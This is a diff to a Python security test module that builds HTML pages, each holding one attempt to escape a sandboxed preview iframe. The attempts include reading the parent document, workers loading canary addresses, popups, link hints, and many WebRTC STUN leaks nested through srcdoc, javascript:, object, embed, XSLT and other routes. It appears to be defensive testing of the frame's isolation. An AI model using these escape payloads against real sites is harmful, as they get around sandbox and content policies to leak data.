@@ -1,10 +1,16 @@
 """Ways in which a page may try to get out of the frame it is shown in.
 
-Each is a page's body. `CANARY/name` is an address where nothing may arrive; `escaped(what)` is called by a page that
-has got hold of something it must not have.
+Each is a page's body. `CANARY/name` is an address where nothing may arrive, UDP_PORT a port for datagrams, and RTC a script
+that sends some there; `escaped(what)` is called by a page that has got hold of something it must not have.
 """
 
 # ruff: noqa: E501 (one attempt a line)
+
+import json
+import re
+from pathlib import Path
+
+from tests.security.canary import Canary
 
 _SCRIPTS = {
     "parent document": "escaped(parent.document.title)",
@@ -39,6 +45,11 @@ _SCRIPTS = {
     "service worker": "navigator.serviceWorker.register('/static/dist/x.js').then(() => escaped('service worker'))",
     "worker from blob": "const u = URL.createObjectURL(new Blob(['fetch(\"CANARY/worker\")'])); new Worker(u)",
     "shared worker": "const s = URL.createObjectURL(new Blob(['fetch(\"CANARY/shared\")'])); new SharedWorker(s)",
+    "worker with imports": "const u = URL.createObjectURL(new Blob(['importScripts(\"CANARY/imports\")'])); new Worker(u)",
+    "worker from data": "new Worker('data:text/javascript,importScripts(\"CANARY/data-imports\")')",
+    "popup of its own": "const w = window.open(''); if (w) { escaped('popup'); w.document.write('<img src=CANARY/own-popup>') }",
+    "hints by script": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload'])"
+    "document.head.append(Object.assign(document.createElement('link'), { rel, href: 'CANARY/hint' }))",
     "worklet": "CSS.paintWorklet.addModule('CANARY/worklet')",
     "web rtc": "new RTCPeerConnection(); escaped('RTCPeerConnection')",
     "web rtc of a frame": "const f = document.body.appendChild(document.createElement('iframe'));"
@@ -95,6 +106,47 @@ _MARKUP = {
 }  # fmt: skip
 ESCAPES = {name: f"<script>{script}</script>" for name, script in _SCRIPTS.items()} | _MARKUP
 
+# WebRTC is under no policy, and each new frame has it. RTC is a script with neither kind of quotation mark.
+_RTC = "{const p=new RTCPeerConnection({iceServers:[{urls:`stun:127.0.0.1:UDP_PORT`}]});p.createDataChannel(`x`);p.setLocalDescription()}"
+_RTC_FRAMES = {
+    "itself": "<script>RTC</script>",
+    "srcdoc": '<iframe srcdoc="<script>RTC</script>"></iframe>',
+    "srcdoc handler": "<iframe srcdoc=\"<img src=x onerror='RTC'>\"></iframe>",
+    "javascript": '<iframe src="javascript:RTC"></iframe>',
+    "nested srcdoc": "<iframe srcdoc=\"<iframe srcdoc='<script>RTC</script>'></iframe>\"></iframe>",
+    "javascript in srcdoc": "<iframe srcdoc=\"<iframe src='javascript:RTC'></iframe>\"></iframe>",
+    "object": '<object data="javascript:RTC"></object><object type="text/html" data="data:text/html,<script>RTC</script>"></object>',
+    "embed": '<embed src="javascript:RTC"><embed type="text/html" src="data:text/html,<script>RTC</script>">',
+    "foreign object": '<svg><foreignObject><iframe srcdoc="<script>RTC</script>"></iframe></foreignObject></svg>',
+    "link into a frame": '<iframe name=inner></iframe><a id=go target=inner href="javascript:RTC">x</a><script>go.click()</script>',
+    "form into a frame": '<iframe name=inner></iframe><form target=inner action="javascript:RTC"></form><script>document.forms[0].submit()</script>',
+    "template": '<template id=t><iframe srcdoc="<script>RTC</script>"></iframe></template><script>document.body.append(t.content.cloneNode(true))</script>',
+    "shadow root": '<p id=host><script>host.attachShadow({ mode: "closed" }).innerHTML = `<iframe srcdoc="&lt;script>RTC_ESCAPED</scr` + `ipt>"></iframe>`</script>',
+} | {
+    name: f"<script>const source = '<script>RTC<\\/script>'; {script}</script>"
+    for name, script in {
+        "made srcdoc": "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: source }))",
+        "made javascript": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'javascript:RTC' }))",
+        "made object": "document.body.append(Object.assign(document.createElement('object'), { data: 'javascript:RTC' }))",
+        "set later": "const f = document.body.appendChild(document.createElement('iframe')); setTimeout(() => f.setAttribute('srcdoc', source), 100)",
+        "led later": "const f = document.body.appendChild(document.createElement('iframe')); f.onload = () => { f.onload = null; f.contentWindow.location = 'javascript:RTC' }",
+        "inner html": 'document.body.innerHTML = `<iframe srcdoc="${source}"></iframe>`',
+        "adjacent html": "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"${source}\"></iframe>`)",
+        "written": 'document.write(`<iframe srcdoc="${source}"></iframe>`)',
+        "opened and written": "addEventListener('load', () => { document.open(); document.write(`<iframe srcdoc=\"${source}\"></iframe>`); document.close() })",
+        "parsed": "document.body.append(new DOMParser().parseFromString(`<iframe srcdoc=\"${source}\"></iframe>`, 'text/html').body.firstChild)",
+        "attribute node": "const f = document.createElement('iframe'), a = document.createAttribute('srcdoc'); a.value = source; f.setAttributeNode(a); document.body.append(f)",
+        "transformed": "const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version='1.0' "
+        "xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:output method='html'/><xsl:template match='/'><iframe srcdoc='${source.replaceAll('<', '&lt;')}'/>"
+        "</xsl:template></xsl:stylesheet>`, 'text/xml')); document.body.append(x.transformToFragment(document, document))",
+        "blob of its own": "location = URL.createObjectURL(new Blob([source], { type: 'text/html' }))",
+        "popup": "const w = window.open(''); w?.document.write(source)",
+        "with our own script": "const data = '<script type=application/json>' + JSON.stringify({ page: source, runsScripts: true }).replaceAll('<', '\\\\u003c')"
+        " + '<\\/script>'; document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: source + data + OURS + source }))",
+    }.items()
+}
+ESCAPES |= {f"web rtc, {name}": frames for name, frames in _RTC_FRAMES.items()}
+
 _PAGE = """<!doctype html><html lang="en"><title>Secret title</title><body><script>
 const escaped = (what) => top.postMessage({{ test: {name!r}, escaped: String(what) }}, '*');
 addEventListener('error', (event) => event.preventDefault());
@@ -103,9 +155,17 @@ top.postMessage({{ test: {name!r}, ran: true }}, '*');
 </script>{attack}</body></html>"""
 
 
-def pages(canary_url: str, port: int) -> dict[str, str]:
+def pages(canary: Canary) -> dict[str, str]:
     """Return a page for each way, by its name."""
-    made = {name: _PAGE.format(name=name, attack=attack) for name, attack in ESCAPES.items()}
-    return {
-        name: page.replace("CANARY", canary_url).replace("PORT", str(port)) for name, page in made.items()
-    }
+    return {name: _page(name, attack, canary) for name, attack in ESCAPES.items()}
+
+
+def _page(name: str, attack: str, canary: Canary) -> str:
+    page = _PAGE.format(name=name, attack=attack.replace("RTC_ESCAPED", _RTC.replace("`", "\\x60")))
+    page = re.sub(r"\bRTC\b", _RTC, page).replace("CANARY", canary.url)
+    if "OURS" in page:
+        ours = f"<script>{Path('templates/preview/frame.js').read_text()}</script>"
+        page = page.replace("OURS", json.dumps(ours).replace("<", "\\u003c"))
+    if "UDP_PORT" in page:
+        page = page.replace("UDP_PORT", str(canary.udp_port(name)))
+    return page.replace("PORT", str(canary.port))
